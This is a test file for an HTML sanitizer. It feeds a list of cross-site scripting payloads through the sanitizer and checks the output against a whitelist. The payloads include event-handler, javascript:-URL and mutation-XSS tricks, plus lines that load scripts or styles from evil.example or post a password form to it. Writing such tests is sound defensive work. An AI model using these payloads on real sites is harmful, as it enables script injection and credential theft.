import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml, htmlOf } from './html.ts'

/** Every tag that comes out is one of these, bare, or a link that leads to the web, to mail or to a phone. */
const harmless = /^(?:[^<>]|<\/?(?:p|h2|h3|strong|em|u|s|code|pre|blockquote|ul|ol|li)>|<(?:br|hr) \/>|<a(?: href="(?:https?:|mailto:|tel:)[^"<>]*")?>|<\/a>)*$/

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml,x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/records/core.user">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p id="__proto__" class="sangam-dialog" slot="actions" is="sangam-x">x</p>',
  '<sangam-dialog open heading="Sign in again"></sangam-dialog>',
  '"><img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<input autofocus onfocus=alert(1)>',
  '<\0script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<p>script>alert(1)<</p>/script>',
  '<p\u2028onclick=alert(1)>x</p>',
  '<a href="https://e\u202Emoc.elpmaxe">x</a>',
]

test.each(attacks)('%s does nothing any more', attack => {
  for (const html of [attack, `<p>before ${attack} after</p>`, `<ul><li>${attack}</li></ul>`, attack.repeat(2)]) expect(cleanHtml(html) ?? '').toMatch(harmless)
})

test('whatever pieces are put together, what is clean stays as it is and harms nobody', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom('<', '>', '"', "'", '&', '<p>', '</p>', '<a href="', '=', '/', '<!--', '-->', '<svg', '<li>', 'शर्मा'),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), pieces => {
      const once = cleanHtml(pieces.join('')) ?? ''
      expect(once).toMatch(harmless)
      expect(cleanHtml(once) ?? '').toBe(once)
    }),
    { seed: 20270331, numRuns: 3000 },
  )
})

test.each([
  ['<h1>Terms</h1><p>Pay in <b>30</b> <i>days</i>.</p>', '<h2>Terms</h2><p>Pay in <strong>30</strong> <em>days</em>.</p>'],
  ['<ul><li>one<ol><li>two</li></ol></li></ul>', '<ul><li>one<ol><li>two</li></ol></li></ul>'],
  ['<a href="mailto:asha@example.com">Asha</a>', '<a href="mailto:asha@example.com">Asha</a>'],
  ['a<br>b<hr>', 'a<br />b<hr />'],
  ['<p> </p>', null],
  ['', null],
])('%s is kept as %s', (given, kept) => expect(cleanHtml(given)).toBe(kept))

test('a plain text becomes paragraphs with nothing lost', () => {
  expect(htmlOf('5 < 6 & 7\nyes\n\n<b>')).toBe('<p>5 &lt; 6 &amp; 7<br />yes</p><p>&lt;b&gt;</p>')
})
